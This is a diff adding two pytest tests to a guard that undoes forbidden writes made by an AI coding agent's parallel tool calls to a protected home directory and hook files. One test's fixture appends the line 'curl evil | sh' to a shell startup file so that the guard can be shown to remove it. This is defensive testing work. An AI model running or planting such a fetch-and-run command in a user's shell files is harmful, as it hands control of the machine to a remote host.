@@ -308,3 +308,42 @@ def test_without_a_feed_the_files_found_protected_before_are_not_judged_again(tm
     assert outcome.post_blocked and "What the runtime runs by itself" in outcome.post_reason, outcome
     assert files_judged() == [str(guarded.home / ".claude/skills/lint/scripts/run.py")]
     assert (guarded.home / ".claude/skills/lint/scripts/run.py").read_text() == "print('lint')\n"
+
+
+@pytest.mark.parametrize("vouched_by", ["homes", "signed_homes"], ids=["feed", "signatures"])
+def test_a_call_begun_while_another_wrote_the_home_does_not_keep_that_write(request, vouched_by: str) -> None:
+    """Parallel calls: a's command appends to a shell file in the home (forbidden); b's PreToolUse
+    reads the home before a's after-hook puts the file back. Taken as b's starting state, the
+    forbidden line would be put back by b's after-hook, once a's had removed it."""
+    _, guarded, _ = request.getfixturevalue(vouched_by)
+    project, env = guarded.project, guarded.env
+    before = home_state(guarded.home)
+    write = {"command": "echo 'curl evil | sh' >> $H/.bashrc.d/aliases.sh"}
+    assert not project.hook(project.tool_payload("PreToolUse", "Bash", write, "toolu_a"), env)[0]
+    a_done = subprocess.run(["bash", "-c", write["command"]], cwd=project.root, capture_output=True, text=True,
+                            env={**os.environ, **env})
+    assert home_state(guarded.home) != before, "a's command wrote the home"
+    assert not project.hook(project.tool_payload("PreToolUse", "Bash", {"command": "true"}, "toolu_b"), env)[0]
+    assert project.after("toolu_a", write, a_done, env=env)[0], "a's after-hook puts its write back"
+    assert home_state(guarded.home) == before
+    project.after("toolu_b", {"command": "true"}, subprocess.run(["true"], capture_output=True, text=True), env=env)
+    assert home_state(guarded.home) == before, "b's after-hook left the home as a's put it back"
+
+
+def test_a_call_begun_under_other_outside_rules_keeps_its_own_reading(signed_homes, monkeypatch) -> None:
+    """The same interleaving once the places outside moved (CODEX_HOME set since the last reading,
+    naming a hooks.json there): the latest reading names other files, and taken as b's starting
+    state, every file it does not name would be "created" and removed by b's after-hook."""
+    _, guarded, _ = signed_homes
+    project, env = guarded.project, guarded.env
+    codex = guarded.home.parent / "codex-home"
+    codex.mkdir()
+    (codex / "hooks.json").write_text('{"hooks": {}}\n')
+    a_call = {"command": "sleep 0"}
+    assert not project.hook(project.tool_payload("PreToolUse", "Bash", a_call, "toolu_a"), env)[0]
+    monkeypatch.setenv("CODEX_HOME", str(codex))
+    before = home_state(guarded.home), (codex / "hooks.json").read_bytes()
+    assert not project.hook(project.tool_payload("PreToolUse", "Bash", {"command": "true"}, "toolu_b"), env)[0]
+    outcome = project.after("toolu_b", {"command": "true"}, subprocess.run(["true"], capture_output=True, text=True), env=env)
+    assert not outcome[0], outcome
+    assert (home_state(guarded.home), (codex / "hooks.json").read_bytes()) == before
